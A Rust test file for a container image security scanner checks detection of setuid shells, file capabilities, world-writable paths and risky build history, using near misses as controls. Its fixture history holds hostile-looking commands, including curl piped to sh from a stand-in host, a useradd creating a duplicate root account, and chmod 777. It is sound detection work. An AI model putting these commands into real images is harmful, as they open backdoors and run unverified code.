//! The escape, history and suid scanners on images written by the test: setuid shells,
//! file capabilities in PAX xattrs (as GNU tar and the container tools write them),
//! world-writable system paths, risky build history; each rule with a near miss beside it.

use std::path::Path;

use crate::common::*;

/// A `security.capability` xattr as the kernel lays it out (`struct vfs_cap_data`,
/// revision 2): magic and flags, then permitted and inheritable, low then high words,
/// little-endian. Written here so the fixture does not come from the code under test.
fn encode_v2(permitted: u64, inheritable: u64, effective: bool) -> Vec<u8> {
    const REVISION_2: u32 = 0x0200_0000;
    const EFFECTIVE: u32 = 0x0000_0001;
    let magic = REVISION_2 | if effective { EFFECTIVE } else { 0 };
    let mut out = magic.to_le_bytes().to_vec();
    for half in 0..2 {
        out.extend_from_slice(&((permitted >> (32 * half)) as u32).to_le_bytes());
        out.extend_from_slice(&((inheritable >> (32 * half)) as u32).to_le_bytes());
    }
    out
}

/// One entry of a layer with its mode, owner and optional capability xattr.
enum M<'a> {
    Dir(&'a str, u32),
    File(&'a str, u32, u64, Option<Vec<u8>>),
    Whiteout(&'a str),
}

fn mode_layer(entries: &[M<'_>]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        let (path, kind, mode, gid, caps) = match e {
            M::Dir(p, m) => (*p, tar::EntryType::Directory, *m, 0, None),
            M::File(p, m, g, c) => (*p, tar::EntryType::Regular, *m, *g, c.clone()),
            M::Whiteout(p) => (*p, tar::EntryType::Regular, 0o644, 0, None),
        };
        if let Some(c) = &caps {
            b.append_pax_extensions([("SCHILY.xattr.security.capability", c.as_slice())])
                .unwrap();
        }
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(kind);
        h.set_size(0);
        h.set_mode(mode);
        h.set_uid(0);
        h.set_gid(gid);
        h.set_mtime(1_700_000_000);
        b.append_data(&mut h, path, std::io::empty()).unwrap();
    }
    b.into_inner().unwrap()
}

/// A `docker save`-style archive with the given config fields (history, Env, User, ...).
fn archive(path: &Path, layers: &[Vec<u8>], history: serde_json::Value, config: serde_json::Value) {
    let diff_ids: Vec<String> = layers.iter().map(|l| sha256(l)).collect();
    let cfg = serde_json::to_vec(&serde_json::json!({
        "architecture": "amd64", "os": "linux", "config": config,
        "rootfs": {"type": "layers", "diff_ids": diff_ids}, "history": history,
    }))
    .unwrap();
    let mut b = tar::Builder::new(std::fs::File::create(path).unwrap());
    let mut add = |name: &str, data: &[u8]| {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, name, data).unwrap();
    };
    add("config.json", &cfg);
    let mut names = Vec::new();
    for (i, l) in layers.iter().enumerate() {
        let name = format!("l{i}/layer.tar");
        add(&name, l);
        names.push(name);
    }
    let manifest =
        serde_json::json!([{"Config": "config.json", "RepoTags": ["t/escape:1"], "Layers": names}]);
    add("manifest.json", &serde_json::to_vec(&manifest).unwrap());
    b.into_inner().unwrap().sync_all().unwrap();
}

fn scan_json(target: &str, scanners: &str) -> serde_json::Value {
    let out = holdfast()
        .args([
            "scan",
            "image",
            "--no-cache",
            "-f",
            "json",
            "--scanners",
            scanners,
            target,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Findings reduced to what the rules decide, with layers as indexes (bottom first).
fn summary(r: &serde_json::Value, layers: &[Vec<u8>]) -> Vec<serde_json::Value> {
    let ids: Vec<String> = layers.iter().map(|l| sha256(l)).collect();
    r["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let layer = f["layer"].as_str().and_then(|l| ids.iter().position(|i| i == l));
            serde_json::json!({
                "kind": f["kind"], "id": f["id"], "severity": f["severity"], "title": f["title"],
                "path": f["path"], "layer": layer, "removed": f["removed"], "evidence": f["evidence"],
            })
        })
        .collect()
}

fn risky_image(dir: &Path) -> (std::path::PathBuf, Vec<Vec<u8>>) {
    let admin = encode_v2(1 << 21, 0, true); // cap_sys_admin=ep
    let net_raw = encode_v2(1 << 13, 0, true); // cap_net_raw=ep, as Debian's ping has
    let base = mode_layer(&[
        M::Dir("etc", 0o755),
        M::Dir("usr/bin", 0o755),
        M::File("usr/bin/su", 0o4755, 0, None),
        M::File("usr/sbin/unix_chkpwd", 0o2755, 42, None),
        M::File("usr/bin/bash", 0o755, 0, None),
        M::File("usr/bin/ping", 0o755, 0, Some(net_raw)),
        M::Dir("var/tmp", 0o1777),
        M::Dir("tmp", 0o1777),
    ]);
    let app = mode_layer(&[
        M::File("usr/local/bin/bash", 0o4755, 0, None),
        M::File("usr/local/bin/python3.11", 0o2755, 50, None),
        M::File("usr/local/bin/backupctl", 0o4755, 0, None),
        M::File("opt/tool/netprobe", 0o755, 0, Some(admin)),
        M::Dir("usr/share/app/cache", 0o777),
        M::File("etc/app.conf", 0o666, 0, None),
        // Near misses: scratch space and sticky directories.
        M::File("tmp/scratch", 0o666, 0, None),
        M::File("var/tmp/scratch", 0o666, 0, None),
        M::Dir("srv/shared", 0o1777),
        M::File("etc/passwd", 0o644, 0, None),
    ]);
    // Deletes backupctl; re-lists the world-writable directory unchanged (as a layer
    // adding a file below it does): not a new finding.
    let cleanup = mode_layer(&[
        M::Whiteout("usr/local/bin/.wh.backupctl"),
        M::Dir("usr/share/app/cache", 0o777),
        M::File("usr/share/app/cache/new", 0o644, 0, None),
    ]);
    let layers = vec![base, app, cleanup];
    let history = serde_json::json!([
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c #(nop)  ENV APP_PASSWORD=hunter2hunter2", "empty_layer": true},
        {"created_by": "/bin/sh -c #(nop)  ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D", "empty_layer": true},
        {"created_by": "|1 NPM_TOKEN=npm_s3cr3tvalue /bin/sh -c curl -fsSL https://example.invalid/install.sh | sh && chmod -R 777 /usr/share/app && useradd -o -u 0 -g 0 toor && wget --no-check-certificate -q https://example.invalid/x"},
        {"created_by": "/bin/sh -c rm /usr/local/bin/backupctl && curl -fsSL https://example.invalid/x.tgz | tar xz"},
    ]);
    let config = serde_json::json!({"Env": ["PATH=/usr/bin", "APP_PASSWORD=hunter2hunter2", "GPG_KEY=A035C8"]});
    let p = dir.join("risky.tar");
    archive(&p, &layers, history, config);
    (p, layers)
}

#[test]
fn risky_image_findings_snapshot() {
    let d = temp();
    let (p, layers) = risky_image(d.path());
    let r = scan_json(&path_str(&p), "escape,history,suid");
    // The layer list repeats the image's own history; the findings must not.
    let text = serde_json::to_string(&r["targets"][0]["findings"]).unwrap();
    for secret in ["hunter2", "npm_s3cr3t"] {
        assert!(
            !text.contains(secret),
            "a secret value leaked into a finding"
        );
    }
    insta::assert_json_snapshot!("risky_image_findings", summary(&r, &layers));
}

#[test]
fn scan_container_help() {
    let out = holdfast()
        .args(["scan", "container", "--help"])
        .output()
        .unwrap();
    assert!(out.status.success());
    // Asserted line by line: the shared scan flags below change with other scanners.
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(
        help.contains("Usage: holdfast scan container [OPTIONS] [TARGET]"),
        "{help}"
    );
    assert!(help.contains("--all"), "{help}");
    // Neither a container nor --all: a clear usage error.
    let out = holdfast().args(["scan", "container"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn scanners_select_their_kinds_and_clean_image_is_quiet() {
    let d = temp();
    let (p, _) = risky_image(d.path());
    let r = scan_json(&path_str(&p), "suid");
    let kinds: std::collections::BTreeSet<&str> = r["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds.into_iter().collect::<Vec<_>>(), vec!["suid"]);

    // USER and HEALTHCHECK set, harmless history, no special bits: nothing to report.
    let layers = vec![mode_layer(&[
        M::Dir("usr/bin", 0o755),
        M::File("usr/bin/bash", 0o755, 0, None),
        M::Dir("tmp", 0o1777),
    ])];
    let history = serde_json::json!([
        {"created_by": "/bin/sh -c curl -fsSL -o /tmp/x.sh https://example.invalid/x.sh && sha256sum -c /tmp/sums && chmod 755 /tmp/x.sh"},
        {"created_by": "/bin/sh -c #(nop)  USER app", "empty_layer": true},
    ]);
    let config = serde_json::json!({"User": "app", "Env": ["PASSWORD_FILE=/run/secrets/pw"],
        "Healthcheck": {"Test": ["CMD", "/usr/bin/true"]}});
    let p = d.path().join("clean.tar");
    archive(&p, &layers, history, config);
    let r = scan_json(&path_str(&p), "escape,history,suid");
    assert_eq!(r["targets"][0]["findings"], serde_json::json!([]));
}

#[test]
fn rootfs_scan_reads_modes_without_history_findings() {
    use std::os::unix::fs::PermissionsExt;
    let d = temp();
    let root = d.path().join("root");
    std::fs::create_dir_all(root.join("usr/bin")).unwrap();
    std::fs::create_dir_all(root.join("etc/app")).unwrap();
    std::fs::write(root.join("usr/bin/bash"), b"").unwrap();
    std::fs::set_permissions(
        root.join("usr/bin/bash"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    std::fs::set_permissions(root.join("etc/app"), std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = holdfast()
        .args([
            "scan",
            "rootfs",
            "--no-cache",
            "-f",
            "json",
            "--scanners",
            "escape,history,suid",
        ])
        .arg(&root)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut ids: Vec<(String, String)> = r["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["id"].as_str().unwrap().into(),
                f["path"].as_str().unwrap_or("").into(),
            )
        })
        .collect();
    ids.sort();
    assert_eq!(
        ids,
        vec![
            ("HF-SUID-GTFOBIN".to_string(), "/usr/bin/bash".to_string()),
            ("HF-SUID-NEW".into(), "/usr/bin/bash".into()),
            ("HF-WORLD-WRITABLE".into(), "/etc/app".into()),
        ]
    );
}
